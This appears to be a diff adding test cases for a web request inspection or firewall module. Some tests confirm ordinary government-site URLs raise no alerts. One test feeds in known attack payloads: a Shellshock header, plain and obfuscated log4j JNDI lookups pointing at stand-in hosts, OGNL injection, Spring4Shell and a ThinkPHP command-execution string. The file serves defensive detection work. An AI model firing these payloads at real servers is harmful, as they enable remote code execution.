@@ -22,3 +22,33 @@ test('transforms are recorded in order and the normalised form is decoded and fo
   t.true(r.transforms.includes('sql-comment'));
   t.is(r.normalised, "/news.php?id=1' union select 1,2");
 });
+
+test('ordinary requests of Java/PHP government sites raise nothing', (t) => {
+  for (const target of [
+    '/col/col1229/index.html;jsessionid=8F1A2B3C4D5E6F708192A3B4C5D6E7F8?uid=5123456&pageNum=3',
+    '/module/web/jpage/dataproxy.jsp?startrecord=1&endrecord=45&perpage=15',
+    '/login.php?redirect=https%3A%2F%2Fwww.example.gov.cn%2Findex.php%3Fid%3D3',
+    '/list?sort=id&order=desc&view=list&dir=asc',
+    '/search?q=Women%27s+Federation&page=2',
+    '/search?q=1+or+2+%E5%B1%85%E5%AE%A4',
+    '/api/list?data=eyJhcmVhQ29kZSI6ICI0NDAxMDUiLCAicGFnZSI6IDN9',
+    '/static/pdfjs/web/viewer.html?file=../../../attach/0/3538860072604068074.pdf',
+    '/bsfw/bszn/list?returl=..%2Findex.html',
+    '/art/2025/3/8/art_1243_942074.html?from=singlemessage&isappinstalled=0',
+    '/cas/login?service=https%3A%2F%2Fwww.example.gov.cn%2Fhdjl%2F&ticket=ST-1234-abcdEFGH-cas',
+  ]) {
+    const r = inspectRequest({ target, userAgent: 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/125.0.0.0 Safari/537.36', referer: 'https://www.baidu.com/link?url=abc&eqid=123' });
+    t.deepEqual(r.findings, [], target);
+  }
+});
+
+test('header and framework attacks: Shellshock, log4j lookups (obfuscated), OGNL, Spring4Shell, ThinkPHP', (t) => {
+  const find = (req: Parameters<typeof inspectRequest>[0]): string[] => inspectRequest(req).findings.map((f) => `${f.category}:${f.where}`);
+  t.deepEqual(find({ target: '/', userAgent: '() { :;}; /bin/bash -c "id"' }), ['command_injection:user-agent']);
+  t.deepEqual(find({ target: '/', userAgent: '${jndi:ldap://x.example/a}' }), ['code_injection:user-agent']);
+  t.deepEqual(find({ target: '/?x=${${lower:j}ndi:${lower:l}dap://x/a}' }), ['code_injection:query:x']);
+  t.deepEqual(find({ target: '/?x=${${::-j}${::-n}${::-d}${::-i}:rmi://x/a}' }), ['code_injection:query:x']);
+  t.deepEqual(find({ target: '/login.action', referer: '%{(#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}' }), ['code_injection:referer']);
+  t.deepEqual(find({ target: '/?class.module.classLoader.resources.context.parent.pipeline.first.pattern=x' }), ['code_injection:query-name']);
+  t.true(find({ target: '/index.php?s=/index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=id' }).includes('code_injection:query:s'));
+});
